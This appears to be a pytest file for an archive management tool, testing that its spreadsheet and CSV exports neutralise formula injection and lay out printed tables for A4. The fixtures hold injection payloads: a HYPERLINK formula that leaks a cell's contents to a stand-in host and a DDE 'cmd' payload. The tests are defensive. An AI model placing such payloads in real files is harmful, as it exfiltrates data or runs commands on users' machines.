"""Spreadsheets and CSV files that no program runs: a name written like a formula stays text in
every XLSX and CSV we write (read back from the files' XML), and printed tables are typed,
frozen, filtered and set up for A4."""

from __future__ import annotations

import datetime as dt
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from archive_tui.bootstrap import context_for
from archive_tui.reports.certificates import write_issue_report_xlsx
from archive_tui.reports.tables import csv_cell, typed, write_csv
from archive_tui.services.transfers import transfers
from archive_tui.services.registers.certificate_forms import print_roster
from archive_tui.services.registers.certificates import issue_report
from archive_tui.services.quality.checks import export_findings, run_checks
from archive_tui.services.exchange.demo import fill_demo
from archive_tui.services.exchange.exporting import export_nyt2539
from archive_tui.services.households.households import list_households
from archive_tui.services.exchange.importing import run_import
from archive_tui.services.registers.custody_forms import print_shelf_list
from archive_tui.services.transfers.transfer_forms import manifest
from models import ArchiveFile, Household, Issuer
from tests.conftest import another_archive

LEAK = '=HYPERLINK("http://localhost:8000/?leak="&E2,"点击")'
HOSTILE = [LEAK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "=1+1"]


@pytest.fixture
def hostile(engine, config):
    """A township whose names and titles came in written like formulas (from a careless Excel)."""
    fill_demo(context_for(engine, config), households=10, seed=6)
    households = list_households(engine)
    house, file, issuer = Household.__table__, ArchiveFile.__table__, Issuer.__table__
    with engine.begin() as connection:
        for index, household in enumerate(households):
            connection.execute(update(house).where(house.c.code == household["cbfbm"])
                               .values(name=HOSTILE[index % len(HOSTILE)]))
            connection.execute(update(file).where(file.c.archive_code == household["archive_code"])
                               .values(title=HOSTILE[(index + 1) % len(HOSTILE)]))
        connection.execute(update(issuer).where(issuer.c.village_name == households[-1]["village"])
                           .values(village_name="@SUM(A1:A9)"))
    run_checks(context_for(engine, config))
    return list_households(engine)


def formulas_in(path) -> list[str]:
    """Formula elements in any sheet of the workbook, read from its XML."""
    with zipfile.ZipFile(path) as book:
        sheets = {name: book.read(name) for name in book.namelist() if name.startswith("xl/worksheets/")}
    return [name for name, xml in sheets.items() if b"<f>" in xml or b"<f " in xml]


def test_no_workbook_we_write_holds_a_formula(engine, config, hostile, tmp_path):
    village = hostile[0]["village"]
    number = transfers.new_batch(context_for(engine, config), transfers.Batch("正定县档案馆"))
    transfers.add(context_for(engine, config), number, [h["cbfbm"] for h in hostile], override="测试")
    books = {
        "export nyt2539": export_nyt2539(context_for(engine, config), tmp_path / "国标.xlsx")[0],
        "check --xlsx": export_findings(engine, tmp_path / "问题.xlsx"),
        "certs roster": print_roster(context_for(engine, config), village, tmp_path / "清册.xlsx").path,
        "print shelf-list": print_shelf_list(engine, config, tmp_path / "目录.xlsx").path,
        "transfers manifest": manifest(context_for(engine, config), number, tmp_path / "移交.xlsx").path,
        "certs report": write_issue_report_xlsx(tmp_path / "发证率.xlsx", issue_report(engine), False),
    }
    for what, path in books.items():
        assert formulas_in(path) == [], what
        values = [cell.value for sheet in load_workbook(path) for row in sheet.iter_rows() for cell in row]
        assert any(value in HOSTILE for value in values), what  # the text is there, as text
    roster = load_workbook(books["certs roster"]).worksheets[0]
    assert {c.data_type for row in roster.iter_rows(min_row=4) for c in row if c.value in HOSTILE} == {"s"}


def test_csv_files_write_formula_text_with_a_quote_and_import_takes_it_off(engine, config, hostile, tmp_path):
    folder, _counts = export_nyt2539(context_for(engine, config), tmp_path / "国标")
    text = (folder / "CBF.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK(" in text and "'@SUM" not in text.replace("'@SUM(A1:A9)", "")
    second_config, second = another_archive(tmp_path / "second")
    run_import(context_for(second, second_config), folder)
    assert sorted(h["name"] for h in list_households(second)) == sorted(h["name"] for h in hostile)
    second.dispose()


@pytest.mark.parametrize(("value", "written"), [
    (LEAK, "'" + LEAK), ("+1+2", "'+1+2"), ("@A1", "'@A1"), ("-1.5", "-1.5"), ("-", "'-"), ("张三", "张三"),
    ("=", "'="), (12, 12), (None, ""),
])
def test_the_csv_rule(value, written):
    assert csv_cell(value) == written


@pytest.mark.parametrize(("value", "stored"), [
    ("12", 12), ("2018", 2018), ("0", 0), ("15.53", 15.53), ("2026-11-20", dt.date(2026, 11, 20)),
    ("130123101001010001", "130123101001010001"), ("01", "01"), ("Z001-NJ·2018-Y-00001", "Z001-NJ·2018-Y-00001"),
    ("2026-02-30", "2026-02-30"), ("1234567890", "1234567890"), ("合计", "合计"),
])
def test_printed_tables_store_counts_areas_and_dates_as_such_and_codes_as_text(value, stored):
    assert typed(value) == stored and type(typed(value)) is type(stored)


def test_a_printed_table_is_ready_for_a4(engine, config, hostile, tmp_path):
    number = transfers.new_batch(context_for(engine, config), transfers.Batch("正定县档案馆"))
    transfers.add(context_for(engine, config), number, [h["cbfbm"] for h in hostile], override="测试")
    sheet = load_workbook(manifest(context_for(engine, config), number, tmp_path / "移交.xlsx").path)["移交清单"]
    assert sheet.freeze_panes == "A4" and sheet.auto_filter.ref == f"A3:H{3 + len(hostile)}"
    assert sheet.print_title_rows.replace("$", "") == "3:3" and int(sheet.page_setup.paperSize) == 9  # A4
    assert sheet.page_setup.fitToWidth == 1 and sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet["A3"].font.bold and sheet.column_dimensions["B"].width >= 20  # 档号 fits its column
    assert isinstance(sheet["G4"].value, int)  # 页数


def test_write_csv_is_owner_only_and_opens_in_excel(tmp_path):
    path = write_csv(tmp_path / "表.csv", ["名称"], [[LEAK]])
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    assert oct(path.stat().st_mode & 0o777) in ("0o600", "0o666")  # 0o666 where the OS has no owner bits
